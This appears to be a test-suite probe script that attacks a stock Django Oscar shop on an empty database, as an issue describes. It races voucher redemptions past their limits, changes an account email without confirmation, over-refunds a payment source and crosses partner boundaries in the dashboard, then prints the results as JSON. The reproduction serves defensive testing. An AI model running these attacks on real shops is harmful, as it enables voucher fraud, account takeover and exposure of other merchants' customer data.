"""`python -m tests.stock_oscar.probe`: attack a stock Oscar as issue 4580 says, and print what it let happen, as JSON.

DATABASE_URL is an empty PostgreSQL database. Nothing of our own shop is imported here.
"""

from __future__ import annotations

import json
import os
import re
import sys
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from decimal import Decimal
from html import unescape
from threading import Barrier
from typing import Any

os.environ["DJANGO_SETTINGS_MODULE"] = "tests.stock_oscar.settings"

import django

django.setup()

from django.contrib.auth import get_user_model
from django.contrib.auth.models import AnonymousUser, Permission
from django.core.management import call_command
from django.db import connections
from django.test import Client, RequestFactory
from django.urls import reverse
from django.utils import timezone
from oscar.apps.order.utils import OrderCreator
from oscar.apps.payment.models import Source, SourceType
from oscar.apps.shipping.methods import Free
from oscar.apps.voucher.models import Voucher, VoucherApplication
from oscar.core import prices
from oscar.core.loading import get_class, get_model
from oscar.test import factories
from oscar.test.basket import add_product

Selector = get_class("partner.strategy", "Selector")
Applicator = get_class("offer.applicator", "Applicator")
User: Any = get_user_model()
AT_ONCE = 8


def at_once(functions: list[Callable[[], Any]]) -> list[Any]:
    """All at the same moment; what each returned or raised."""
    barrier = Barrier(len(functions))

    def run(function: Callable[[], Any]) -> Any:
        barrier.wait(30)
        try:
            return function()
        except Exception as error:
            return error
        finally:
            connections.close_all()

    with ThreadPoolExecutor(len(functions)) as pool:
        return list(pool.map(run, functions))


def voucher(code: str, **offer: Any) -> Any:
    """Half off everything with this code."""
    everything = get_model("offer", "Range").objects.create(name=code, includes_all_products=True)
    condition = get_model("offer", "Condition").objects.create(range=everything, type="Count", value=1)
    benefit = get_model("offer", "Benefit").objects.create(range=everything, type="Percentage", value=50)
    given = get_model("offer", "ConditionalOffer").objects.create(
        name=code, condition=condition, benefit=benefit, offer_type="Voucher", **offer
    )
    now, day = timezone.now(), timedelta(days=1)
    made = Voucher.objects.create(name=code, code=code, start_datetime=now - day, end_datetime=now + day)
    made.offers.add(given)
    return made


def basket_with(code: Any) -> Any:
    """A basket with one thing and this voucher, with its offers applied: what the review page shows."""
    basket = factories.create_basket(empty=True)
    request = RequestFactory().get("/")
    request.user = AnonymousUser()
    basket.strategy = Selector().strategy(request=request, user=None)
    add_product(basket, Decimal("20"), 1)
    basket.vouchers.add(code)
    Applicator().apply(basket, request.user, request)
    assert basket.total_discount == 10
    return basket


def place(basket: Any) -> Any:
    """Place its order."""
    time.sleep(0.1)
    total = prices.Price("GBP", excl_tax=basket.total_excl_tax, incl_tax=basket.total_incl_tax)
    free = prices.Price("GBP", excl_tax=Decimal(0), incl_tax=Decimal(0))
    return OrderCreator().place_order(
        basket, total, Free(), free, user=AnonymousUser(), order_number=f"P{basket.pk}", status="Pending"
    )


def voucher_limit() -> int:
    """How often a voucher with five uses is used by twenty at once."""
    code = voucher("FIVE", max_global_applications=5)
    baskets = [basket_with(code) for _ in range(20)]
    results = at_once([lambda basket=basket: place(basket) for basket in baskets])
    raised = [one for one in results if isinstance(one, Exception)]
    assert len(raised) < 20, raised
    return int(VoucherApplication.objects.filter(voucher=code).count())


def voucher_check_and_use() -> int:
    """How often a single-use voucher is used by those who look, as the models have them look, and then use it."""
    code = voucher("ONCE")
    Voucher.objects.filter(pk=code.pk).update(usage=Voucher.SINGLE_USE)
    orders = [factories.create_order(number=f"V{number}") for number in range(AT_ONCE)]

    def use(order: Any) -> None:
        mine = Voucher.objects.get(pk=code.pk)
        if mine.is_available_to_user(AnonymousUser())[0]:
            time.sleep(0.1)
            mine.record_usage(order, AnonymousUser())

    at_once([lambda order=order: use(order) for order in orders])
    return int(VoucherApplication.objects.filter(voucher=code).count())


def email_change() -> str:
    """The address of an account after one POST of whoever found it signed in."""
    user = User.objects.create_user("ada", "ada@example.com", "x")
    client = Client()
    client.force_login(user)
    client.post("/accounts/profile/edit/", {"first_name": "", "last_name": "", "email": "mallory@example.com"})
    user.refresh_from_db()
    return str(user.email)


def refund() -> list[str]:
    """What was taken, and what is given back of it."""
    source = Source.objects.create(
        order=factories.create_order(number="R1"), source_type=SourceType.objects.create(name="Card"), currency="GBP",
        amount_allocated=10, amount_debited=10,
    )  # fmt: skip
    source.refund(Decimal(50))
    source.refresh_from_db()
    return [str(source.amount_debited), str(source.amount_refunded)]


def partner(name: str) -> tuple[Any, Client]:
    """A partner and somebody who works there."""
    house = get_model("partner", "Partner").objects.create(name=name)
    user = User.objects.create_user(name, f"{name}@example.com", "x")
    user.user_permissions.add(Permission.objects.get(codename="dashboard_access"))
    house.users.add(user)
    client = Client()
    client.force_login(user)
    return house, client


def partners_order() -> list[bool]:
    """Whether somebody of a partner sees the other partner's line of an order, and its buyer."""
    mine, client = partner("mine")
    theirs, _ = partner("theirs")
    basket = factories.create_basket(empty=True)
    for house, title in ((mine, "My bowl"), (theirs, "Their secret bowl")):
        product = factories.create_product(title=title)
        factories.create_stockrecord(
            product, Decimal("9.99"), partner_sku=title, num_in_stock=9, partner_name=house.name
        )
        basket.add_product(product)
    buyer = User.objects.create_user("buyer", "buyer@example.com", "x")
    order = factories.create_order(number="O1", basket=basket, user=buyer)
    text = client.get(f"/dashboard/orders/{order.number}/").content.decode()
    return ["Their secret bowl" in text, "buyer@example.com" in text]


def partners_catalogue() -> bool:
    """Whether somebody of a partner, who may make products, may make a variant of another partner's."""
    house, client = partner("third")
    # Who may make products of their own.
    mine = User.objects.get(username="third")
    mine.user_permissions.add(*Permission.objects.filter(codename__in=("view_product", "add_product")))
    other, _ = partner("fourth")
    product = factories.create_product(title="Parent", product_class="Things")
    factories.create_stockrecord(product, Decimal("9.99"), partner_name=other.name, partner_sku="P-1")
    get_model("catalogue", "Product").objects.filter(pk=product.pk).update(structure="parent")
    product.stockrecords.all().delete()
    child = factories.create_product(title="Child", structure="child", parent=product)
    factories.create_stockrecord(child, Decimal("9.99"), partner_name=other.name, partner_sku="P-2")
    url = reverse("dashboard:catalogue-product-create-child", args=[product.pk])
    page = client.get(url)
    form = {name: unescape(value) for name, value in INPUT.findall(page.content.decode())}
    stock = {
        "partner": str(house.pk),
        "partner_sku": "M-1",
        "price_currency": "GBP",
        "price": "1.00",
        "num_in_stock": "1",
    }
    stock = {f"stockrecords-0-{name}": value for name, value in stock.items()}
    none = {f"{name}-TOTAL_FORMS": "0" for name in ("images", "primary_recommendations", "productcategory_set")}
    client.post(url, {**form, **stock, **none, "title": "Mine now", "upc": "MINE", "is_public": "on"})
    return bool(product.children.filter(title="Mine now").exists())


INPUT = re.compile(r'<input type="hidden" name="([^"]+)"(?: value="([^"]*)")?')


def main() -> int:
    """Make the tables, attack, print."""
    call_command("migrate", run_syncdb=True, verbosity=0)
    get_model("sites", "Site").objects.get_or_create(pk=1, defaults={"domain": "testserver", "name": "testserver"})
    attacks = (voucher_limit, voucher_check_and_use, email_change, refund, partners_order, partners_catalogue)
    sys.stdout.write(json.dumps({attack.__name__: attack() for attack in attacks}) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
